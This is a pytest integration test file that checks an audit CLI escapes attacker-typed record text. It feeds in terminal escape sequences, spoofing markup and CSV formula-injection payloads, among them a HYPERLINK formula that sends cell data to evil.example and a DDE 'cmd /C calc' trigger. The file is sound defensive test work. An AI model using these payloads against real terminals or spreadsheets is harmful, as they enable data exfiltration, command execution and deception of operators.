"""Attacker-typed record text through the operator CLI: never markup, never terminal controls.

A P0 requester types the ``reason`` (and can choose names P0 relays); the receiver stores it
and the CLI prints it to an operator's terminal or spreadsheet.
"""

from __future__ import annotations

import csv
import io
import json
import re
import uuid
from collections.abc import Callable
from datetime import timedelta

import pytest

from tests.conftest import Stack
from tests.integration.cli_world import NOW, Receiver, cli, jsonl, millis

pytestmark = pytest.mark.integration

# What a requester can type, and the text an operator must see in a table, a show or a
# timeline. Rich markup is shown as typed; controls appear as visible escapes.
SHOWN_AS = {
    "chmod on [/var/log] for INC-7": "chmod on [/var/log] for INC-7",
    "[prod-db]": "[prod-db]",
    "[link=https://evil.example]x[/link]": "[link=https://evil.example]x[/link]",
    "[bold red]APPROVED BY CISO[/]": "[bold red]APPROVED BY CISO[/]",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07": (
        r"\x1b]8;;https://evil.example\x07click\x1b]8;;\x07"
    ),
    "\x1b[2J\x1b[1;1Hall clear": r"\x1b[2J\x1b[1;1Hall clear",
    "\x9b2Jeight-bit CSI": r"\x9b2Jeight-bit CSI",
    "INC-7 \u202edeggol": r"INC-7 \u202edeggol",
    "line one\rforged": r"line one\rforged",
}
# None of these may reach a terminal from record text.
RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e", "\r")
WIDE = {"COLUMNS": "400"}  # no column wraps an expected string

# OWASP's formula triggers, each as the first character of a reason.
FORMULAS = (
    '=HYPERLINK("https://evil.example/?x="&A2,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)


def hostile_body(object_id: str, text: str, *, event_type: str = "request-approved") -> bytes:
    """A request event whose free text (reason, names, permission) is ``text`` everywhere."""
    at = millis(NOW - timedelta(hours=1))
    data = {
        "id": object_id,
        "type": "gcloud",
        "access": "role",
        "status": "APPROVED",
        "requestor": "mallory@corp.example",
        "principal": "mallory@corp.example",
        "permission": {"name": text, "description": text},
        "reason": text,
        "lastUpdatedTimestamp": at,
        "approvalDetails": {
            "approvalSource": "slack",
            "approvedTimestamp": at,
            "name": text,
            "email": "bob@corp.example",
        },
    }
    envelope = {"id": "p0-notifier", "name": "P0", "eventType": event_type, "data": data}
    # As JavaScript's JSON.stringify writes it: C1 and bidi controls raw, C0 as \u escapes.
    return json.dumps(envelope, ensure_ascii=False).encode()


class HostileWorld:
    def __init__(self, stack: Stack) -> None:
        self.stack = stack
        receiver = Receiver(stack)
        at = NOW - timedelta(minutes=30)
        self.object_ids = {text: f"H{n}" for n, text in enumerate(SHOWN_AS)}
        self.event_ids = {
            text: receiver.deliver(hostile_body(object_id, text), at=at)
            for text, object_id in self.object_ids.items()
        }
        self.formula_ids = {text: f"F{n}" for n, text in enumerate(FORMULAS)}
        for text, object_id in self.formula_ids.items():
            receiver.deliver(hostile_body(object_id, text), at=at)
        # P0's eventType is free text too (any non-blank string): stats print it.
        self.event_types = ("[prod-db]", "\x1b[2Jwiped", "@SUM(A1:A9)")
        for n, event_type in enumerate(self.event_types):
            receiver.deliver(hostile_body(f"T{n}", "x", event_type=event_type), at=at)


@pytest.fixture(scope="module")
def world(emulators: dict[str, str]) -> HostileWorld:
    stack = Stack(project=f"cli-hostile-{uuid.uuid4().hex[:8]}", emulator_env=emulators)
    stack.create_topic()
    return HostileWorld(stack)


VIEWS: dict[str, Callable[[str, str], tuple[str, ...]]] = {
    "query": lambda object_id, _: ("audit", "query", "--object-id", object_id),
    "show": lambda _, event_id: ("audit", "show", event_id),
    "timeline": lambda object_id, _: ("audit", "timeline", object_id),
    "replay-dry-run": lambda object_id, _: ("replay", "--object-id", object_id, "--dry-run"),
}


@pytest.mark.parametrize("view", sorted(VIEWS))
@pytest.mark.parametrize("typed", list(SHOWN_AS), ids=[repr(t) for t in SHOWN_AS])
def test_people_see_record_text_as_typed_with_controls_escaped(
    world: HostileWorld, view: str, typed: str
) -> None:
    args = VIEWS[view](world.object_ids[typed], world.event_ids[typed])
    result = cli(world.stack, *args, process_env=WIDE)
    assert result.exit_code == 0, result.output
    # In show, the record's own reason row (the body panel below it has the text too).
    row = r"reason\s+" if view == "show" else ""
    assert re.search(row + re.escape(SHOWN_AS[typed]), result.stdout), result.stdout
    assert not any(control in result.output for control in RAW_CONTROLS)


@pytest.mark.parametrize("typed", list(SHOWN_AS), ids=[repr(t) for t in SHOWN_AS])
def test_machine_formats_keep_the_exact_text_without_raw_controls(
    world: HostileWorld, typed: str
) -> None:
    object_id, event_id = world.object_ids[typed], world.event_ids[typed]
    listed = cli(world.stack, "audit", "query", "--object-id", object_id, "--format", "jsonl")
    shown = cli(world.stack, "audit", "show", event_id, "--format", "json")
    exported = cli(world.stack, "audit", "export", "--object-id", object_id, "--format", "json")
    for result in (listed, shown, exported):
        assert result.exit_code == 0, result.output
        assert not any(control in result.stdout for control in RAW_CONTROLS)
    # JSON's own \u escapes: a parser gets back exactly what P0 relayed.
    assert jsonl(listed)[0]["reason"] == typed
    assert json.loads(shown.stdout)["record"]["approverName"] == typed
    assert json.loads(shown.stdout)["body"]["data"]["reason"] == typed
    [record] = json.loads(exported.stdout)
    assert json.loads(record["body"])["data"]["permission"]["name"] == typed

    as_csv = cli(world.stack, "audit", "export", "--object-id", object_id, "--format", "csv")
    assert as_csv.exit_code == 0, as_csv.output
    assert not any(control in as_csv.stdout for control in RAW_CONTROLS)
    [row] = list(csv.DictReader(io.StringIO(as_csv.stdout)))
    assert json.loads(row["body"])["data"]["reason"] == typed  # the body column stays JSON


def test_stats_show_event_types_as_typed(world: HostileWorld) -> None:
    table = cli(world.stack, "audit", "stats", process_env=WIDE)
    assert table.exit_code == 0, table.output
    assert "[prod-db]" in table.stdout
    assert r"\x1b[2Jwiped" in table.stdout
    assert "\x1b" not in table.output
    as_json = cli(world.stack, "audit", "stats", "--format", "json")
    assert "\x1b" not in as_json.stdout
    assert json.loads(as_json.stdout)["eventType"]["\x1b[2Jwiped"] == 1


@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
def test_csv_cells_that_a_spreadsheet_would_evaluate_are_neutralised(
    world: HostileWorld, formula: str
) -> None:
    object_id = world.formula_ids[formula]
    for args in (
        ("audit", "query", "--object-id", object_id),
        ("audit", "export", "--object-id", object_id),
        ("audit", "timeline", object_id),
        ("replay", "--object-id", object_id, "--dry-run"),
    ):
        result = cli(world.stack, *args, "--format", "csv")
        assert result.exit_code == 0, result.output
        [row] = list(csv.DictReader(io.StringIO(result.stdout)))
        # A carriage return would overwrite the line on a terminal: it is shown escaped.
        neutralised = "'" + formula.replace("\r", r"\r")
        assert row["reason"] == neutralised, args
        assert row["permissionName"] == neutralised, args
        assert row["principal"] == "mallory@corp.example"  # harmless cells are untouched


def test_stats_csv_neutralises_event_types(world: HostileWorld) -> None:
    result = cli(world.stack, "audit", "stats", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert {"dimension": "eventType", "key": "'@SUM(A1:A9)", "count": "1"} in rows
